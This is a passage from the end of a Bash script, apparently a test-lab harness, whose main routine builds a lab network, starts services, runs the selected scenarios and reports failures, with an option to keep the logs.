  install_tools
  trap cleanup EXIT
  trap 'exit 130' INT TERM
  WORK=$(mktemp -d /tmp/pkl-lab.XXXXXX)
  chmod 755 "$WORK"
  mkdir -p "$WORK/logs"
  : >"$WORK/scenario.pids"; : >"$WORK/service.pids"
  build_lab || die "could not build the lab network"
  start_services || { tail -n 20 "$WORK"/logs/*.log >&2; die "could not start lab services"; }
  for s in "${wanted[@]}"; do run_scenario "$s"; done
  log "recorded: ${DONE[*]:-none}"
  if [ ${#FAILED[@]} -gt 0 ]; then
    log "FAILED: ${FAILED[*]} (logs were in the work dir; rerun with PKL_LAB_KEEP_LOGS=1 to keep them)"
    [ "${PKL_LAB_KEEP_LOGS:-0}" = 1 ] && { mkdir -p /tmp/pkl-lab-logs && cp -r "$WORK/logs/." /tmp/pkl-lab-logs/; log "logs copied to /tmp/pkl-lab-logs"; }
    exit 1
  fi
}

main "$@"
